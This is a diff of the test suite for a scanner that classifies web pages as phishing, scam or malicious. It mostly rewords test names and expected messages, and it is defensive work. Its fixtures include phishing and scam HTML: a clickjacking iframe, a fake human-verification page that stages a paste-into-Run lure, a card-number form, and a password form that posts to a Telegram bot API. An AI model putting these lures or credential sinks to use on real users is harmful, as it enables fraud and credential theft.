       '<title>Editor 9 Crack free download</title><a href="https://m.example/a.zip">Get</a>',
-      'protection was broken',
+      'offers cracked software',
     ],
     [
-      'pokies in a title',
+      'spam in the title',
       `<title>Slot online maxwin</title>${'<a href="https://s.example/">slot gacor</a>'.repeat(12)}`,
-      'what spam advertises',
+      'typical spam products',
     ],
     [
-      'a stranger behind a clear frame',
+      'a transparent frame over the whole page',
       '<iframe src="https://ads.example/z" style="position:fixed;width:100%;height:100%;opacity:0"></iframe>',
-      'clickable and not to be seen',
+      'transparent frame of',
     ],
     [
-      'steps that are shown later',
+      'instructions that are shown later',
       '<h1>Verify you are human</h1><div style="display:none"><p>Press Windows Key + R</p><p>Press Ctrl + V</p></div><script>b.onclick=()=>navigator.clipboard.writeText(t)</script>',
-      'paste something into the system',
+      'paste a command into the system',
     ],
     [
-      'a sick telephone',
+      'a virus alert for telephones',
       '<h1>Your iPhone is severely damaged by (13) viruses</h1>',
-      'above all that the computer is in danger',
+      'heading claims that the computer is in danger',
     ],
     [
       'a card asked for in French',
       '<title>ameli.fr - carte Vitale</title><form><input name="numcarte" placeholder="Numéro de carte bancaire"></form>',
       'The title',
     ],
-    ['a toll', login('', 'Outstanding toll: $6.99. Pay to avoid a late fee.'), 'presses for time'],
+    ['a toll', login('', 'Outstanding toll: $6.99. Pay to avoid a late fee.'), 'creates urgency'],
     [
       'spam',
       `<div style="display:none">${'<a href="https://x.example/">cheap viagra</a>'.repeat(5)}</div>`,
-      'nobody sees',
+      'hidden links advertise',
     ],
   ])('with %s', (_what, html, said) => {
     expect(texts(documentOf(html))).toContain(said);
@@ -751,11 +867,11 @@ describe('the document', () => {
       `${'<p>Phishing pages say your account has been suspended. </p>'.repeat(200)}`,
       undefined,
     ],
-  ])('with %s says nothing', (_what, html, url) => {
+  ])('with %s has no indicators', (_what, html, url) => {
     expect(documentOf(html, url).indicators).toEqual([]);
   });
 
-  test('is read from the lists where there is no source', () => {
+  test('is judged by the posted lists where there is no source', () => {
     const verdict = documentOf({
       forms: [{ action: 'https://api.telegram.org/bot1/x', fields: [{ type: 'password' }] }],
       inlineScripts: [],
@@ -775,7 +891,7 @@ describe('the verdict', () => {
     requiredKeys: [],
   });
 
-  test('never falls when an indicator is added', () => {
+  test('never decreases when an indicator is added', () => {
     fc.assert(
       fc.property(verdicts, fc.constantFrom(...LAYERS), indicator, (before, name, more) => {
         const known = before[name] ?? { judged: false, indicators: [] };
@@ -785,7 +901,7 @@ describe('the verdict', () => {
     );
   });
 
-  test('is never BENIGN unless scripts and document were looked at', () => {
+  test('is never BENIGN unless scripts and document were judged', () => {
     fc.assert(
       fc.property(verdicts, (given) => {
         const { threatLevel } = judge(given);
@@ -820,7 +936,7 @@ describe('the verdict', () => {
 });
 
 describe('the scanner', () => {
-  test('tells of each layer as it is done, and then of the whole', async () => {
+  test('reports each layer when it is done, and then the assessment', async () => {
     const { emissions, assessment } = await verdictOn(page('<title>Garden</title><p>Roses</p>'));
     expect(emissions[0]).toMatchObject({ kind: 'progress', fraction: 0 });
     const layers = emissions.flatMap((emission) =>
@@ -837,19 +953,19 @@ describe('the scanner', () => {
   });
 
   test.each([
-    ['nothing but its address', {}],
+    ['only its address', {}],
     ['blank source', { html: ' \n' }],
-    ['scripts alone', { inlineScripts: ['var a = 1'] }],
-    ['forms alone', { forms: [] }],
+    ['only scripts', { inlineScripts: ['var a = 1'] }],
+    ['only forms', { forms: [] }],
     ['links and a title', { title: 'x', links: [], iframes: [], scripts: [] }],
-  ])('does not call a page BENIGN of which it knows %s', async (_what, init) => {
+  ])('does not call a page BENIGN that is known by %s', async (_what, init) => {
     expect((await verdictOn(page(init))).assessment).toMatchObject({
       threatLevel: 'UNKNOWN',
       classification: null,
     });
   });
 
-  test('calls a page BENIGN whose posted lists are complete', async () => {
+  test('calls a page with complete posted lists BENIGN', async () => {
     const { assessment } = await verdictOn(
       page({ forms: [], inlineScripts: [], scripts: [], iframes: [], links: [] }),
     );
@@ -872,7 +988,7 @@ describe('the scanner', () => {
       classification: 'miner',
       url: `${site.url}/bad`,
     });
-    // What an error page says is not what the page said.
+    // An error page is not the page.
     expect(await at('/gone')).toMatchObject({ threatLevel: 'UNKNOWN' });
     await site.close();
     await expect(at('/')).rejects.toThrow(/cannot fetch .*ECONNREFUSED/);
@@ -890,7 +1006,7 @@ describe('the scanner', () => {
     expect(judged).not.toContain('network');
   });
 
-  test('gives up on a page that takes too long, warns, and does not call it BENIGN', async () => {
+  test('stops judging a page that takes too long, warns, and does not call it BENIGN', async () => {
     const slow = page(`<p>x</p>${hostile.flood()}`);
     const { assessment, warnings } = await verdictOn(slow, { timeoutSeconds: 0.1 });
     expect(assessment.threatLevel).not.toBe('BENIGN');
@@ -899,11 +1015,11 @@ describe('the scanner', () => {
       message: expect.stringContaining('longer than 0.1 s'),
       count: 1,
     });
-    // The threads that were ended are replaced.
+    // Ended threads are replaced.
     expect((await verdictOn(page('<p>Roses</p>'))).assessment.threatLevel).toBe('BENIGN');
   });
 
-  test('stops when it is aborted while a thread works', async () => {
+  test('stops on an abort while a thread works', async () => {
     const abort = new AbortController();
     const reason = new Error('the scan is cancelled');
     const emissions: Emission[] = [];
@@ -919,7 +1035,7 @@ describe('the scanner', () => {
     expect(emissions.filter(({ kind }) => kind === 'assessment')).toEqual([]);
   });
 
-  test('takes no page any more when it is closed', async () => {
+  test('judges no page after it was closed', async () => {
     const analysis = createAnalysis();
     await analysis.close();
     const limits = { signal: new AbortController().signal, timeoutMs: 1000 };
@@ -932,7 +1048,7 @@ describe('the scanner', () => {
 });
 
 const hostile = {
-  /** Thousands of places that conditions of rules have to compare with thousands of others. */
+  /** Thousands of matches that conditions of rules would have to compare with thousands of others. */
   slowForYara: () => 'setApprovalForAll hardwareConcurrency nonce keydown popstate\n'.repeat(20_000),
   oneLine: () => `<p>${'a '.repeat(1_500_000)}</p>`,
   manyElements: () => '<b x=y>'.repeat(100_000),
